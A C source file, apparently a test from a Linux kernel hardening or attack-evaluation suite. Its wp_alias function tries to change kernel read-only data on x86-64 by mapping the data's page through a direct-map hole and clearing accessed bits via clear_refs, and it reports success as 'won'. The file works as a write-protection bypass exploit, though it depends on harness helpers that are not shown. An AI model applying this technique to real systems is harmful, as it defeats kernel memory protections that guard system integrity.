// SPDX-License-Identifier: GPL-2.0-only
/*
 * Write protection: read-only data of the kernel has no key, and may be mapped read-only
 * anywhere. Here a hole of the direct map leads there, which is ordinary by its number.
 * A section clears the accessed bit in it, with CR0.WP clear.
 */
#include <unistd.h>

#include "addresses.h"
#include "attack.h"
#include "clear_refs.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define HOLE		(100UL << 30)

static uint64_t find_word_of_rodata(void)
{
	uint64_t at = ksymbol("__start_rodata"), end = ksymbol("__end_rodata"), word = 0;

	for (; at && !word && at < end; at += PAGE_SIZE)
		word = clear_refs_word(at);
	return word;
}

enum outcome wp_alias(void)
{
	uint64_t word, before, after, hole = direct_map_base() + HOLE;
	struct slot slot;
	int changed;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!clear_refs_start())
		return broken("no process that clears accessed bits");
	stay_on_cpu(0);
	word = find_word_of_rodata();
	if (!word || kwalk(word, LEAF, 0, &slot))
		return broken("no word of read-only data looks like an entry");
	before = kread64(word);
	if (!map_address(hole, slot.phys & -PAGE_SIZE, PTE_KERNEL_RW & ~PTE_RW & ~PTE_DIRTY))
		return lost("the hole of the direct map leads to no read-only data");
	changed = clear_refs_at(hole + word % PAGE_SIZE);
	after = kread64(word);
	if (changed <= 0)
		return broken("nothing waited (%d)", changed);
	if (after == before)
		return lost("the word is what it was, 0x%lx", after);
	return won("read-only data of the kernel at 0x%lx was 0x%lx, and is 0x%lx", word, before, after);
}
#else
enum outcome wp_alias(void)
{
	return skipped("x86-64 only");
}
#endif
